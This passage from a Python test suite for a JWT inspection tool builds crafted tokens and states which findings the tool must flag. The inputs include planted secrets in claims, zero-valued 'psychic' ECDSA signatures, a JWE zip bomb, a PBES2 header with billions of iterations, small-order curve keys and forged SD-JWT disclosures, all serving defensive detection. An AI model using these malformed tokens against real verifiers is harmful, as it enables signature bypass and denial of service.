    with_payload(claims(note="IBAN DE89 3704 0044 0532 0130 00 EUR")),
    ["sensitive-value"],
)
row("fix-addresses-list", with_payload(claims(addresses=["1 Main St, Springfield"])), ["pii-claim"])
row("fix-emails-array", with_payload(claims(emails=["alice@example.com"])), ["pii-claim"])
row("fix-email-as-array", with_payload(claims(email=["alice@example.com"])), ["pii-claim"])
row("fix-password-as-array", with_payload(claims(password=["hunter2"])), ["sensitive-claim"])
row("fix-passwords-plural", with_payload(claims(passwords=["a1", "b2"])), ["sensitive-claim"])
row("fix-api-keys-plural", with_payload(claims(api_keys=["k-1", "k-2"])), ["sensitive-claim"])
row("fix-secrets-object", with_payload(claims(secrets={"db": "pg-prod-pw"})), ["sensitive-claim"])
row(
    "fix-credentials-string", with_payload(claims(credentials="admin:hunter2")), ["sensitive-claim"]
)
row("fix-totp-seed", with_payload(claims(totp_seed="JBSWY3DPEHPK3PXP")), ["sensitive-claim"])
row("fix-session-key", with_payload(claims(session_key="c2Vzc2lvbi1rZXk")), ["sensitive-claim"])
row(
    "fix-apple-is-private-email-true",
    with_payload(claims(is_private_email="true", email_verified="true")),
    [],
    ["pii-claim", "sensitive-claim"],
)
row("fix-secret-true-text", with_payload(claims(secret="false")), [], ["sensitive-claim"])
row(
    "fix-db-url-with-password",
    with_payload(claims(note="postgres://admin:hunter2@db.internal:5432/app")),
    ["sensitive-value"],
)
row(
    "fix-url-without-password",
    with_payload(claims(note="https://alice@example.com/x")),
    [],
    ["sensitive-value"],
)
row(
    "fix-hugging-face-token",
    with_payload(claims(note="hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567")),
    ["sensitive-value"],
)
row(
    "fix-azure-account-key",
    with_payload(
        claims(
            note="DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" + "A1b2" * 21 + "Zz=="
        )
    ),
    ["sensitive-value"],
)
row(
    "fix-one-year-exp-without-iat", ok(iat=None, nbf=None, exp=NOW + 365 * 86400), ["long-lifetime"]
)
row("fix-short-exp-without-iat", ok(iat=None, nbf=None, exp=NOW + 3600), [], ["long-lifetime"])
row(
    "fix-psychic-es384-no-key",
    f"{enc({'alg': 'ES384'})}.{enc(claims())}.{b64u(bytes(96))}",
    ["psychic-signature"],
)
row(
    "fix-psychic-s-zero-only",
    f"{enc({'alg': 'ES256'})}.{enc(claims())}." + b64u(bytes([1]) * 32 + bytes(32)),
    ["psychic-signature"],
)
row("fix-psychic-once-with-key", _ZERO, ["psychic-signature"], key=pub_pem(ec_priv("P-256")))
row(
    "fix-der-with-unusable-key",
    es({"alg": "ES256"}, claims(), der=True),
    ["der-ecdsa-signature"],
    key="-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----",
)
row(
    "fix-es256-random-sig-no-key",
    es({"alg": "ES256"}, claims()),
    [],
    ["psychic-signature", "der-ecdsa-signature"],
)


# ---- JWE decryption (issue 14): each finding on a token made for it, the clean one without it


def _jwe_rows() -> None:
    from tests.core import jwetokens as jt

    good = {"sub": "alice", "exp": NOW + 600}
    aes = jt.secret(16)
    aes_text = jt.key_text(aes)
    kw = jt.encrypt(good, "A128KW", "A128GCM", key=aes)
    row("jwe-decrypted", kw, ["jwe-token"], HIGH, decryption_key=aes_text)
    row(
        "jwe-wrong-key", kw, ["jwe-decryption-failed"], decryption_key=jt.key_text(jt.secret(16, 1))
    )
    row("jwe-flipped-tag", jt.flip(kw, 4), ["jwe-decryption-failed"], decryption_key=aes_text)
    parts = kw.split(".")
    row(
        "jwe-truncated-tag",
        ".".join([*parts[:4], parts[4][:-4]]),
        ["jwe-malformed"],
        ["jwe-decryption-failed"],
        decryption_key=aes_text,
    )
    row(
        "jwe-unknown-enc",
        jt.dir_gcm({"alg": "dir", "enc": "A128XYZ"}, b"{}", aes),
        ["jwe-unsupported-alg"],
        decryption_key=aes_text,
    )
    row(
        "jwe-rsa-key-for-aes-kw",
        kw,
        ["jwe-key-misfit"],
        ["jwe-decryption-failed"],
        decryption_key=jt.pem_private(jt.key_for("RSA-OAEP", "")),
    )
    row(
        "jwe-dir-wrong-size",
        jt.dir_gcm({"alg": "dir", "enc": "A128GCM"}, b"{}", aes),
        ["jwe-dir-key-size"],
        decryption_key=jt.key_text(jt.secret(32)),
    )
    row("jwe-rsa1-5", jt.encrypt(good, "RSA1_5", "A128GCM"), ["jwe-rsa1-5"])
    row("jwe-rsa-oaep-256", jt.encrypt(good, "RSA-OAEP-256", "A128GCM"), [], ["jwe-rsa1-5"])
    pbes2 = "PBES2-HS256+A128KW"
    row(
        "jwe-pbes2-999",
        jt.encrypt(good, pbes2, "A128GCM", header={"p2c": 999}),
        ["jwe-pbes2-low-count"],
        decryption_key=jt.PASSWORD,
    )
    row(
        "jwe-pbes2-1000",
        jt.encrypt(good, pbes2, "A128GCM", header={"p2c": 1000}),
        [],
        ["jwe-pbes2-low-count", "jwe-decryption-failed"],
        decryption_key=jt.PASSWORD,
    )
    head = enc({"alg": pbes2, "enc": "A128GCM", "p2c": 2_000_000_000, "p2s": "AAAAAAAAAAA"})
    row(
        "jwe-pbes2-p2c-billions",
        ".".join([head, b64u(bytes(24)), b64u(bytes(12)), "AAAA", b64u(bytes(16))]),
        ["jwe-pbes2-count-refused"],
        decryption_key=jt.PASSWORD,
    )
    x_key = jt.ec_private("X25519")
    x_tok = jt.encrypt(good, "ECDH-ES", "A128GCM", key=x_key)
    x_parts = x_tok.split(".")
    x_head = json.loads(base64.urlsafe_b64decode(x_parts[0] + "=="))
    x_head["epk"] = {"kty": "OKP", "crv": "X25519", "x": b64u(bytes(32))}
    row(
        "jwe-epk-small-order",
        ".".join([enc(x_head), *x_parts[1:]]),
        ["jwe-invalid-curve"],
        decryption_key=jt.pem_private(x_key),
    )
    bomb = jt.zip_bomb(jt_limit() + 1)
    row(
        "jwe-zip-bomb",
        jt.dir_gcm({"alg": "dir", "enc": "A128GCM", "zip": "DEF"}, bomb, aes),
        ["jwe-zip-bomb"],
        decryption_key=aes_text,
    )


def jt_limit() -> int:
    from inspector.core.jwa_encryption import MAX_INFLATED_BYTES

    return MAX_INFLATED_BYTES


_jwe_rows()
# ---- keys fetched from the issuer (issue 13): what the fetcher learnt, judged per token
_ISS = "https://login.example.org/"
_DISCOVERED = FetchedKeys(url=_ISS + "keys", discovered_for=_ISS, issuer=_ISS)
row("fetched-keys-issuer-matches", ok(), [], HIGH, key=_STRONG, fetched_keys=_DISCOVERED)
row(
    "fetched-keys-token-claims-another-issuer",
    ok(iss="https://evil.example/"),
    ["discovery-issuer-mismatch"],
    key=_STRONG,
    fetched_keys=_DISCOVERED,
)
row(
    "fetched-keys-trailing-slash-differs",
    ok(iss=_ISS.rstrip("/")),
    ["discovery-issuer-mismatch"],
    key=_STRONG,
    fetched_keys=_DISCOVERED,
)
row(
    "fetched-keys-token-without-iss",
    ok(iss=None),
    ["discovery-issuer-mismatch"],
    key=_STRONG,
    fetched_keys=_DISCOVERED,
)
row(
    "fetched-keys-document-names-another-issuer",
    ok(),
    ["discovery-issuer-mismatch"],
    key=_STRONG,
    fetched_keys=FetchedKeys(url=_ISS + "keys", discovered_for=_ISS, issuer="https://evil/"),
)
row(
    "fetched-keys-document-names-no-issuer",
    ok(),
    ["discovery-issuer-mismatch"],
    key=_STRONG,
    fetched_keys=FetchedKeys(url=_ISS + "keys", discovered_for=_ISS),
)
row(
    "fetched-keys-url-given-directly-checks-no-issuer",
    ok(iss="https://anyone.example/"),
    [],
    HIGH,
    key=_STRONG,
    fetched_keys=FetchedKeys(url="https://keys.example/jwks"),
)
row(
    "fetched-keys-publish-a-private-key",
    ok(),
    ["published-private-keys"],
    key=_STRONG,
    fetched_keys=FetchedKeys(url=_ISS + "keys", private_keys=("kid 'a' (oct): k",)),
)
row("pasted-keys-are-not-fetched-keys", ok(), [], ["published-private-keys"], key=_STRONG)


# ---- SD-JWT (RFC 9901): the issuer-signed JWT, then '~'-separated disclosures
def _disclosure(*members: Any) -> str:
    return b64u(json.dumps(list(members)).encode())


def _digest(disclosure: str) -> str:
    return b64u(hashlib.sha256(disclosure.encode()).digest())


_SD_GIVEN = _disclosure("salt-1", "given_name", "Alice")
_SD_CLAIMS = claims(_sd=[_digest(_SD_GIVEN)], _sd_alg="sha-256")
_SD_ISSUER = hs({"alg": "HS256", "typ": "dc+sd-jwt"}, _SD_CLAIMS)
row("sd-jwt-issuance", f"{_SD_ISSUER}~{_SD_GIVEN}~", ["sd-jwt"], HIGH, key=_STRONG)
row(
    "sd-jwt-malformed-disclosure",
    f"{_SD_ISSUER}~{_SD_GIVEN}~{b64u(b'{}')}~",
    ["sd-jwt", "sd-disclosure-malformed"],
)
row(
    "sd-jwt-forged-disclosure",
    f"{_SD_ISSUER}~{_disclosure('salt-1', 'given_name', 'Mallory')}~",
    ["sd-unreferenced-disclosure"],
    ["sd-disclosure-malformed"],
)
row("sd-jwt-disclosure-twice", f"{_SD_ISSUER}~{_SD_GIVEN}~{_SD_GIVEN}~", ["sd-duplicate-digest"])
_SD_RESERVED = _disclosure("salt-2", "_sd", [])
row(
    "sd-jwt-reserved-name",
    f"{hs(H, claims(_sd=[_digest(_SD_RESERVED)]))}~{_SD_RESERVED}~",
    ["sd-reserved-name"],
)
row(
    "sd-jwt-unknown-sd-alg",
    f"{hs(H, claims(_sd=[_digest(_SD_GIVEN)], _sd_alg='md5'))}~{_SD_GIVEN}~",
    ["sd-unknown-hash-alg"],
)


# ---- token profiles (issue 15): DPoP proofs, OIDC hash claims, OAuth/OIDC kinds
def jwk_ec(key: ec.EllipticCurvePrivateKey, private: bool = False) -> dict:
    n = key.private_numbers()
    pub = n.public_numbers
    out = {"kty": "EC", "crv": "P-256", "x": b64u(pub.x.to_bytes(32, "big"))}
    out["y"] = b64u(pub.y.to_bytes(32, "big"))
    if private:
        out["d"] = b64u(n.private_value.to_bytes(32, "big"))
    return out


def _jkt(jwk: dict) -> str:
    members = {k: jwk[k] for k in ("crv", "kty", "x", "y")}
    return b64u(hashlib.sha256(json.dumps(members, separators=(",", ":")).encode()).digest())


_DPOP_H = {"typ": "dpop+jwt", "alg": "ES256", "jwk": jwk_ec(ec_priv("P-256"))}
_DPOP_C = {"jti": "p-1", "htm": "GET", "htu": "https://api.example.org/r", "iat": NOW}
_AT = hs(
    {"alg": "HS256", "typ": "at+jwt"}, claims(client_id="c", cnf={"jkt": _jkt(_DPOP_H["jwk"])})
)
_AT_OTHER = hs({"alg": "HS256", "typ": "at+jwt"}, claims(client_id="c", cnf={"jkt": "x" * 43}))
_ATH = b64u(hashlib.sha256(_AT.encode()).digest())
row("dpop-proof", es(_DPOP_H, _DPOP_C), ["dpop-proof"], HIGH)
row(
    "dpop-private-key",
    es({**_DPOP_H, "jwk": jwk_ec(ec_priv("P-256"), private=True)}, _DPOP_C),
    ["dpop-private-key"],
)
row(
    "dpop-hs256",
    hs({**_DPOP_H, "alg": "HS256", "jwk": {"kty": "oct", "k": b64u(STRONG)}}, _DPOP_C),
    ["dpop-symmetric-alg"],
    key=STRONG.decode(),
)
row(
    "dpop-no-htu",
    es(_DPOP_H, {"jti": "1", "iat": NOW}),
    ["dpop-missing-claim"],
)
row("dpop-stale", es(_DPOP_H, {**_DPOP_C, "iat": NOW - 86400}), ["dpop-iat-skew"])
row(
    "dpop-with-its-access-token",
    f"DPoP: {es(_DPOP_H, {**_DPOP_C, 'ath': _ATH})}\nAuthorization: DPoP {_AT}\n",
    ["dpop-ath-match", "dpop-jkt-match"],
    ["dpop-ath-mismatch", "dpop-jkt-mismatch"],
)
row(
    "dpop-with-another-access-token",
    f"DPoP: {es(_DPOP_H, {**_DPOP_C, 'ath': _ATH})}\nAuthorization: DPoP {_AT_OTHER}\n",
    ["dpop-ath-mismatch", "dpop-jkt-mismatch"],
)
_ID = claims(iss="https://op.example", aud="c1", nonce="n-1", scope=None, jti=None)
_AT_HASH = b64u(hashlib.sha256(b"opaque-access-token").digest()[:16])
row(
    "id-token-at-hash-match",
    json.dumps(
        {"access_token": "opaque-access-token", "id_token": hs(H, {**_ID, "at_hash": _AT_HASH})}
    ),
    ["at-hash-match"],
    HIGH,
)
row(
    "id-token-at-hash-mismatch",
    json.dumps(
        {"access_token": "swapped-access-token", "id_token": hs(H, {**_ID, "at_hash": _AT_HASH})}
    ),
    ["at-hash-mismatch"],
)
row("id-token-two-audiences-no-azp", hs(H, {**_ID, "aud": ["c1", "c2"]}), ["id-token-azp"])
row(
    "at-jwt-without-client-id",
    hs({"alg": "HS256", "typ": "at+jwt"}, claims()),
    ["profile-missing-claim"],
)
row(
    "logout-token-with-nonce",
    hs(
        H,
        claims(
            sid="s", nonce="n", events={"http://schemas.openid.net/event/backchannel-logout": {}}
        ),
    ),
    ["logout-token-invalid"],
)
_CA = {"alg": "HS256", "typ": "client-authentication+jwt"}
row(
    "client-assertion-iss-not-sub",
    hs(_CA, claims(iss="c1", sub="c2")),
    ["client-assertion-invalid"],
)
row(
    "client-assertion-a-day-long",
    hs(_CA, claims(iss="c1", sub="c1", exp=NOW + 86400)),
    ["client-assertion-long-lifetime"],
)
row(
    "kubernetes-legacy-token",
    hs(H, {"iss": "kubernetes/serviceaccount", "sub": "system:serviceaccount:default:builder"}),
    ["kubernetes-legacy-token"],
    ["missing-exp"],
)
row(
    "github-actions-oidc",
    hs(H, claims(iss="https://token.actions.githubusercontent.com", sub="repo:octo/app:ref:main")),
    ["github-actions-oidc"],
    HIGH,
)
row(
    "sd-jwt-cnf-without-key-binding",
    f"{hs(H, claims(_sd=[_digest(_SD_GIVEN)], cnf={'jwk': _DPOP_H['jwk']}))}~{_SD_GIVEN}~",
    ["sd-cnf-without-key-binding"],
)

_KB = {"iat": NOW, "aud": "https://verifier.example", "nonce": "n", "sd_hash": "not-the-hash"}
row(
    "sd-jwt-key-binding-wrong-sd-hash",
    f"{hs(H, claims(_sd=[_digest(_SD_GIVEN)], cnf={'jwk': _DPOP_H['jwk']}))}~{_SD_GIVEN}~"
    + es({"alg": "ES256", "typ": "kb+jwt"}, _KB),
    ["sd-key-binding-invalid"],
    ["sd-cnf-without-key-binding"],
)

# ---- not a JWT: said what it is instead of decoded as a broken JWT
row(
    "not-a-jwt-paseto",
    "v4.public." + b64u(b'{"sub":"alice"}' + bytes(64)),
    ["not-a-jwt"],
    ["malformed-segments", "not-a-token"],
)
row(
    "not-a-jwt-paseto-expired",
    "v4.public." + b64u(b'{"sub":"alice","exp":"2020-01-01T00:00:00+00:00"}' + bytes(64)),
    ["not-a-jwt", "paseto-expired"],
    ["paseto-not-yet-valid"],
)
row(
    "not-a-jwt-paseto-not-yet-valid",
    "v4.public." + b64u(b'{"sub":"alice","nbf":"2099-01-01T00:00:00Z"}' + bytes(64)),
    ["not-a-jwt", "paseto-not-yet-valid"],
    ["paseto-expired"],
)
row(
    "not-a-jwt-saml-unsigned",
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'
    '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp/</saml:Issuer>'
    "</samlp:Response>",
    ["not-a-jwt", "saml-unsigned"],
)
row(
    "not-a-jwt-pem",
    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
    ["not-a-jwt"],
)


# ------------------------------------------------------------------------------ the test


@pytest.mark.parametrize(("text", "key", "kwargs", "must", "must_not"), ROWS)
def test_corpus(text: str, key: str | None, kwargs: dict, must: tuple, must_not: Any) -> None:
    inspection = inspect_token(text, key, **kwargs)
    got = {f.id for f in inspection.findings}
    missing = set(must) - got
    if must_not == HIGH:
        unexpected = {
            f"{f.id}({f.severity}): {f.detail}"
            for f in inspection.findings
            if f.severity in FAILING_SEVERITIES and f.id not in must
        }
    else:
        unexpected = set(must_not) & got
    assert not missing, f"missing {sorted(missing)}; got {sorted(got)}"
    assert not unexpected, f"unexpected {sorted(unexpected)}; got {sorted(got)}"
    assert inspection.to_dict()["findings"] is not None


def test_corpus_covers_every_finding_id() -> None:
    expected = {i for p in ROWS for i in p.values[3]}
    uncovered = set(CATALOGUE) - expected - {"token-size"}
    assert not uncovered, f"catalogue ids no corpus row expects: {sorted(uncovered)}"


def test_wordlist_hit(tmp_path: Any) -> None:
    words = tmp_path / "words.txt"
    words.write_bytes(b"alpha\r\nnot-on-the-builtin-list-7Qx\r\nomega\n")
    token = hs(H, claims(), "not-on-the-builtin-list-7Qx")
    ids = {f.id for f in inspect_token(token, now=NOW, wordlist=words).findings}
    assert "weak-secret" in ids
    ids = {f.id for f in inspect_token(token, now=NOW).findings}
    assert "weak-secret" not in ids


def test_cty_jwt_with_claims_payload_is_not_a_nested_token() -> None:
    token = hs({"alg": "HS256", "cty": "JWT"}, claims())
    ids = {f.id for f in inspect_token(token, now=NOW).findings}
    assert "nested-token" not in ids


def test_short_gate_lets_every_gate_literal_through() -> None:
    from inspector.core.sensitive import _GATE_LITERALS, _short_gate, _url_at

    # every literal but "@", which _url_at decides (a URL with a password in one value)
    assert all(_short_gate(f"x{lit}x") for lit in _GATE_LITERALS if lit != "@")
    assert not _short_gate("https://api.example.org\x00read:orders")
    assert _url_at("https://u:p@h.example", False)
    assert not _url_at("https://h.example\x00u@h.example", False)


@pytest.mark.parametrize("key", [None, "P-256"])
def test_ecdsa_form_reported_once(key: str | None) -> None:
    pem = pub_pem(ec_priv("P-256")) if key else None
    for token, fid in (
        (_ZERO, "psychic-signature"),
        (es({"alg": "ES256"}, claims(), der=True), "der-ecdsa-signature"),
    ):
        found = [f.id for f in inspect_token(token, pem, now=NOW).findings]
        assert found.count(fid) == 1


def test_corpus_size() -> None:
    assert len(ROWS) >= 150
